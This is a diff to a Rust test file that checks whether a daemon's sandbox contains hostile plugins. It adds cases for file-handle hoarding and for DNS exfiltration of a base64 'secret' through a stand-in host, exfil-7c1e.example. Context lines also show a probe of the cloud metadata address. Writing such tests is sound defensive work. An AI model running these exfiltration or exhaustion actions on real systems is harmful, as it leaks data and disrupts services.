@@ -424,6 +424,44 @@ fn every_hostile_plugin_is_contained_and_the_daemon_keeps_its_schedule() {
             "is not in the job's net grant (localhost:".into(),
         ),
         (
+            // Each open file is one of the daemon's descriptors.
+            "handle-hoard",
+            "action = \"hoard\"\npath = \"/data/held\"\nseconds = 20000".into(),
+            rw.into(),
+            "failed",
+            "handle limit: the plugin held more than 1024 open files".into(),
+        ),
+        (
+            "handle-hoard-capped",
+            "action = \"hoard\"\npath = \"/data/held2\"\nseconds = 20000".into(),
+            format!("{rw}\nlimits = {{ handles = 64 }}"),
+            "failed",
+            "handle limit: the plugin held more than 64 open files".into(),
+        ),
+        (
+            "handle-modest",
+            "action = \"hoard\"\npath = \"/data/held3\"\nseconds = 500".into(),
+            rw.into(),
+            "ok",
+            "holding 500 handles".into(),
+        ),
+        (
+            // A lookup of a name no grant gives would carry data out
+            // through the resolver, even if nothing connects.
+            "dns-exfiltration",
+            "action = \"tcp\"\naddress = \"c2VjcmV0.exfil-7c1e.example:80\"".into(),
+            format!("[job.grants]\nnet = [\"localhost:{port}\"]"),
+            "failed",
+            "looking up `c2VjcmV0.exfil-7c1e.example` is not allowed".into(),
+        ),
+        (
+            "dns-granted-name",
+            format!("action = \"tcp\"\naddress = \"localhost:{port}\""),
+            format!("[job.grants]\nnet = [\"localhost:{port}\"]"),
+            "ok",
+            format!("connected to localhost:{port}"),
+        ),
+        (
             "tcp-metadata",
             "action = \"tcp\"\naddress = \"169.254.169.254:80\"".into(),
             String::new(),
